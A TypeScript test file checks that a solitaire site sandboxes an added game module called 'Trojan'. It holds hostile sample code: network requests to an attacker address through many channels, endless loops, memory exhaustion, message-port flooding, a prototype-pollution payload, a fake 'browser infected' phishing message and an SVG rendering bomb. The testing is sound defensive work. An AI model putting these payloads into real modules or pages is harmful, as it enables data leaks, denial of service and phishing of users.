/** Attacks on the site by an added module while it is played. */
import { describe, expect, test } from 'vitest';
import { sample } from '@patience/tooling/sample';
import { AttackedVisitor } from './attacked-visitor.js';
import { sound, tableOf, waysTo } from './hostile-modules.js';
import { dealt, guestOf, variants } from './site.js';

const visitor = AttackedVisitor.forTests();
const { attacker } = visitor;

describe('a module on the table', () => {
  const inGuest = (code: string): string => `if (typeof document !== 'undefined') { ${code} }`;

  /** Puts a module on the table without a trial of its own: the trial, which another module passed, runs in a worker without a document. */
  async function play(text: string, seconds = 5): Promise<void> {
    await visitor.page.goto('en/add/');
    await visitor.page.evaluate(async (source) => {
      const db = await new Promise<IDBDatabase>(
        (done) => (indexedDB.open('patience').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result)),
      );
      const words = { de: 'Trojan', en: 'Trojan' };
      const facts = { id: 'trojan', from: 'https://a.example/', names: words, summaries: words, packs: 1, added: true };
      const change = db.transaction('added', 'readwrite');
      change.objectStore('added').put({ id: 'trojan', from: 'https://a.example/', source, facts, picture: '', added: 1 });
      await new Promise((done) => (change.oncomplete = done));
      db.close();
    }, text);
    await visitor.page.evaluate((limit) => {
      sessionStorage.setItem('limit', String(limit));
      sessionStorage.setItem('untouched', 'true');
    }, seconds);
    await visitor.page.goto('en/play/?variant=trojan');
  }

  /** Checks that the page responds, kept its data, and can remove the added game. */
  async function expectUsable(): Promise<void> {
    expect(attacker.requests).toEqual([]);
    expect(await visitor.page.title()).toMatch(/Patience|Trojan/);
    await visitor.page.getByRole('link', { name: 'Patience' }).first().focus();
    await visitor.expectUnchanged();
  }

  const stopped = /stopped responding|cannot be played/;
  const ended = async (): Promise<void> => {
    await visitor.page.locator('.notice', { hasText: stopped }).waitFor();
    await expect.poll(() => visitor.page.locator('iframe').count()).toBe(0);
  };

  test('a module reaches no network, storage or page by any way, on import, on dealing and on questions of the table', async () => {
    const to = attacker.address;
    const frame = `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(`<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createDataChannel('x'); parent.postMessage('ran', '*')</script>`)}; document.body.append(f)`;
    const element = (tag: string, more: string): string => `document.head.append(Object.assign(document.createElement('${tag}'), ${more}))`;
    const more: Record<string, string> = {
      stylesheet: element('link', `{ rel: 'stylesheet', href: '${to}/style.css' }`),
      prefetch: element('link', `{ rel: 'prefetch', href: '${to}/prefetch' }`),
      preload: element('link', `{ rel: 'preload', as: 'image', href: '${to}/preload' }`),
      prerender: element('script', `{ type: 'speculationrules', textContent: '{"prefetch":[{"urls":["${to}/speculation"]}]}' }`),
      script: element('script', `{ src: '${to}/script.js' }`),
      inline: element('script', `{ textContent: "fetch('${to}/inline')" }`),
      frame: element('iframe', `{ src: '${to}/frame' }`),
      'frame of its own': frame,
      object: element('object', `{ data: '${to}/object' }`),
      video: element('video', `{ src: '${to}/video', autoplay: true }`),
      form: `(() => { const f = Object.assign(document.createElement('form'), { action: '${to}/form', method: 'post' }); document.body.append(f); f.submit(); })()`,
      window: `open('${to}/window')`,
      top: `(top.location = '${to}/top')`,
      'top title': `(top.document.title = 'mine')`,
      'its frame': `(parent.document.title = 'mine')`,
      cookie: `(document.cookie = 'mine=1')`,
      RTC: `new RTCPeerConnection()`,
    };
    const { navigation: _, ...others } = waysTo(to);
    const tries = Object.entries({ ...others, ...more }).map(
      ([name, way]) =>
        `try { Promise.resolve(${way.startsWith('const') ? `(() => { ${way} })()` : way}).then(() => 0, () => told('${name}')); } catch { told('${name}'); }`,
    );
    const all = `const told = (name) => (document.title += name + ' '); addEventListener('message', ({ data }) => data === 'ran' && told('RAN')); ${tries.join('\n')}`;
    await play(sound(`deal(table) { ${inGuest(all)} table.move('pack', 'l', { face: 'up' }); }`, inGuest(all)));
    await dealt(guestOf(visitor.page));
    const title = (): Promise<string> =>
      guestOf(visitor.page)
        .locator('html')
        .evaluate(() => document.title);
    for (const name of ['fetch', 'import', 'top title', 'its frame', 'storage', 'cookie', 'RTC']) await expect.poll(title).toContain(name);
    expect(await title()).not.toContain('RAN');
    await expectUsable();
    // A module that navigates its own frame away leaves no game to play, and its requests still do not arrive.
    const ping = `(() => { const a = Object.assign(document.createElement('a'), { href: '#', ping: '${to}/ping' }); document.body.append(a); a.click(); })()`;
    await play(sound('', inGuest(`${ping}; location.href = '${to}/navigation';`)), 1);
    await ended();
    await expectUsable();
  });

  const LOOP = inGuest('for (;;);');
  const turn = (when: string, run: string): string =>
    `actions: { turn: { on: 'l', when() { ${when} return true; }, run(table) { ${run} table.move('l', 'r'); } } },`;

  /** The functions of a variant that are called before the first move, each with an endless loop. */
  const AT_FIRST: Readonly<Record<string, string>> = {
    options: `get options() { ${LOOP} return {}; },`,
    valid: `valid() { ${LOOP} return true; },`,
    deck: `deck() { ${LOOP} return { suits: ['S'], ranks: [1] }; },`,
    numbered: `numbered() { ${LOOP} return undefined; },`,
    table: `table() { ${LOOP} return ${tableOf()}; },`,
    deal: `deal(table) { ${LOOP} table.move('pack', 'l', { face: 'up' }); },`,
    after: `after() { ${LOOP} },`,
    status: `status() { ${LOOP} return 'playing'; },`,
    score: `score() { ${LOOP} return 0; },`,
    'an action’s when': turn(LOOP, ''),
  };
  test.each(sample(Object.keys(AT_FIRST), 6))('an endless loop in %s is stopped, and the page stays usable', async (name) => {
    await play(sound(AT_FIRST[name]), 0.7);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  /** The functions of a variant that are called when a card is touched, each with an endless loop. */
  const TOUCHED: Readonly<Record<string, string>> = {
    rank: `rank() { ${LOOP} return 0; },`,
    take: `table: () => ${tableOf(`take: () => { ${LOOP} return 1; }`)},`,
    accept: `table: () => ${tableOf(undefined, `accept: () => { ${LOOP} return true; }`)},`,
    'an action’s run': `table: () => ${tableOf('accept: []')}, ${turn('', LOOP)}`,
  };
  test.each(sample(Object.keys(TOUCHED), 1))('an endless loop in %s after a touch is stopped, and the page stays usable', async (name) => {
    await play(sound(TOUCHED[name]), 0.7);
    const card = guestOf(visitor.page).locator('patience-game [part~=card]');
    const met = await Promise.race([card.waitFor().then(() => true), ended().then(() => false)]);
    // Do not wait for the click: the browser confirms it only after the page handled it, and the page hangs by then.
    if (met) card.click().catch(() => undefined);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  test('a module that fills the memory is stopped, and the page stays usable', async () => {
    await play(sound('', inGuest(`const hog = []; for (;;) hog.push(new ArrayBuffer(1e6), 'x'.repeat(3e5) + hog.length);`)), 0.7);
    await ended();
    await expectUsable();
  });

  /** Returns a module that attacks the message port of its table. */
  const port = (say: string): string =>
    inGuest(
      `const { parse, stringify } = JSON; const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (message) { if (typeof message !== 'string') return send.call(this, message); message = JSON.parse(message); const say = (m) => send.call(this, JSON.stringify(m)); ${say} };`,
    );

  test.each([
    ['never answers', port('')],
    ['answers later than anybody waits', port(`setTimeout(() => say(message), 3000);`)],
    ['says ten thousand things at once', port(`for (let i = 0; i < 1e4; i++) say(message);`)],
    ['says it is broken in thirty million signs', port(`say({ is: 'broken', why: 'x'.repeat(3e7) });`)],
    [
      'sends a save of thirty million signs',
      port(
        `say(message.is === 'answer' ? { ...message, state: { ...message.state, save: { ...message.state.save, gestures: [['x'.repeat(3e7)]] } } } : message);`,
      ),
    ],
    [
      'sends the save of another game',
      port(
        `say(message.is === 'answer' ? { ...message, state: { ...message.state, save: { ...message.state.save, variant: 'sw' } } } : message);`,
      ),
    ],
    [
      'calls its options thirty million signs',
      port(
        `say(message.is === 'open' ? { ...message, variant: { ...message.variant, strings: { de: 'x'.repeat(3e7), en: 1 } } } : message);`,
      ),
    ],
  ])('a module that %s is stopped, and the page stays usable', async (_name, text) => {
    await play(sound('', text), 0.7);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  const lie = 'Your browser is infected. Go to fix-it-now.example and enter your password there.';
  test.each([
    ['before its first deal', `say({ is: 'broken', why: '${lie}' });`],
    [
      'with a fault of its own',
      `say({ is: 'broken', why: '${lie}', problem: { code: 'rules-broken', message: '', params: { from: 'x', fault: 'focus', why: '${lie}' } } });`,
    ],
    [
      'in the answer to the first deal',
      `say(message.is === 'answer' ? { is: 'answer', n: message.n, ok: false, why: '${lie}' } : message);`,
    ],
  ])('words of a module %s are quoted and cut', async (_name, code) => {
    await visitor.reopen('block');
    await play(sound('', port(code)));
    const shown = visitor.page.locator('body', { hasText: 'Your browser is infected' });
    await shown.waitFor();
    const text = await shown.innerText();
    expect(text).toContain('“Your browser is infected. Go to fix-it-…”');
    expect(text.match(/Your browser is infected/g)).toHaveLength(text.match(/“Your browser is infected/g)!.length);
    expect(attacker.requests).toEqual([]);
  });

  test.each([
    ['everything three times', port(`for (let i = 0; i < 3; i++) say(message);`)],
    [
      'answers to questions that nobody asked, and messages in any order',
      port(
        `say({ is: 'answer', n: 99, ok: true }); say({ is: 'event', event: 'patience-won' }); say({ is: 'open' }); say(null); say([]); say({ is: 'constructor' }); say(message);`,
      ),
    ],
    [
      'prototypes of everything',
      port(
        `const evil = JSON.parse('{"__proto__":{"ok":true},"constructor":{"prototype":{"mine":1}}}'); say({ ...message, ...evil, is: 'menu', settings: evil }); say(Object.assign(message, { __proto__: { mine: 1 } }));`,
      ),
    ],
    [
      'wishes and wins that no hand asked for',
      port(
        `say(message); if (message.is === 'answer' && message.state) { const { state } = message; for (const what of [{ is: 'deal' }, { is: 'sheet', sheet: 'deal' }, { is: 'escape' }, { is: 'event', event: 'patience-hint', gesture: [], state }]) say(what); say({ is: 'menu', settings: { fourColors: true, largeIndex: true, highContrast: true, leftHanded: true, outlook: true } }); say({ is: 'event', event: 'patience-ready', gesture: [], state: { ...state, save: { ...state.save, seed: 'mine' } } }); }`,
      ),
    ],
  ])('a module that sends %s can still be played and changes nothing', async (_name, text) => {
    await visitor.reopen('block'); // Open a fresh visitor: the processes of earlier games may still run their endless loops.
    await play(sound('', text));
    await dealt(guestOf(visitor.page));
    await expect.poll(() => visitor.page.locator('#deal').innerText()).toMatch(/^Deal \d+/);
    expect(await visitor.page.locator('dialog[open]').count()).toBe(0);
    expect(visitor.page.url()).not.toContain('mine');
    expect(
      await visitor.page.evaluate(() => [
        ({} as { mine?: unknown }).mine,
        ({} as { ok?: unknown }).ok,
        document.documentElement.dataset['contrast'],
        localStorage.getItem('patience.settings')?.includes('"fourColours":true') ?? false,
      ]),
    ).toEqual([undefined, undefined, undefined, false]);
    expect(attacker.requests).toEqual([]);
  });

  test('a module opens one dialog of the site at most, and not again what the player has just closed', async () => {
    await visitor.reopen('block');
    await play(
      sound(
        '',
        port(
          `say(message); if (message.is === 'answer' && message.state && !self.asked) { self.asked = true; setInterval(() => { for (let i = 0; i < 5; i++) { say({ is: 'sheet', sheet: 'deal' }); document.title = (Number(document.title) || 0) + 1; } }, 200); }`,
        ),
      ),
    );
    await visitor.page.evaluate(() => sessionStorage.removeItem('untouched'));
    await visitor.page.reload();
    await dealt(guestOf(visitor.page));
    const asked = (): Promise<number> =>
      guestOf(visitor.page)
        .locator('html')
        .evaluate(() => Number(document.title) || 0);
    const askedMore = async (): Promise<void> => {
      const before = await asked();
      await expect.poll(asked).toBeGreaterThan(before + 10);
    };
    await visitor.page.locator('dialog[open]').first().waitFor();
    await askedMore();
    expect(await visitor.page.locator('dialog').count()).toBe(1);
    await visitor.page.keyboard.press('Escape');
    await askedMore();
    expect(await visitor.page.locator('dialog[open]').count()).toBe(0);
    expect(attacker.requests).toEqual([]);
  });

  test('a module that takes the keyboard from a dialog of the site is removed, with a notice', async () => {
    await visitor.reopen('block');
    await play(sound('', inGuest(`setInterval(() => { window.focus(); document.querySelector('patience-game')?.focus(); }, 50);`)));
    await dealt(guestOf(visitor.page));
    await visitor.page.getByRole('button', { name: 'Share', exact: true }).click();
    await visitor.page.locator('.notice', { hasText: 'it took the keyboard' }).waitFor();
    await expect.poll(() => visitor.page.locator('iframe').count()).toBe(0);
    await visitor.page.keyboard.press('Escape');
    expect(attacker.requests).toEqual([]);
  });

  test('a forged picture costs little or is not drawn in the gallery and on the daily page', async () => {
    const levels = Array.from({ length: 30 }, (_, n) => `<g id="l${n + 1}">${`<use href="#l${n}"/>`.repeat(10)}</g>`).join('');
    const bomb = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><rect id="l0" width="9" height="9"/>${levels}</defs><use href="#l30"/></svg>`;
    await visitor.page.goto('en/add/');
    await visitor.page.evaluate(async (picture) => {
      const db = await new Promise<IDBDatabase>(
        (done) => (indexedDB.open('patience').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result)),
      );
      const words = { de: 'Trojan', en: 'Trojan' };
      const facts = { id: 'trojan', from: 'https://a.example/', names: words, summaries: words, packs: 1, added: true };
      const change = db.transaction('added', 'readwrite');
      change.objectStore('added').put({ id: 'trojan', from: 'https://a.example/', source: 'x', facts, picture, added: 1 });
      await new Promise((done) => (change.oncomplete = done));
      db.close();
    }, bomb);
    await visitor.page.goto('en/games/');
    const image = visitor.page.locator('.tile[data-id="trojan"] img');
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.src.length)).toBeGreaterThan(10);
    expect(await image.evaluate((img: HTMLImageElement) => decodeURIComponent(img.src))).not.toContain('#l');
    await visitor.page.goto('en/daily/?variant=trojan');
    expect(
      await visitor.page
        .locator('main img')
        .evaluateAll((all: HTMLImageElement[]) => all.some(({ src }) => decodeURIComponent(src).includes('#l'))),
    ).toBe(false);
  });

  test('the games of an added module are counted apart from the others, and can be deleted', async () => {
    await visitor.remove();
    await visitor.expectUnchanged();
    await visitor.page.goto('en/games/');
    expect(await visitor.page.content()).not.toContain('rojan');
    expect(await visitor.page.locator('.tile').count()).toBeGreaterThanOrEqual(variants.length);
  });
});
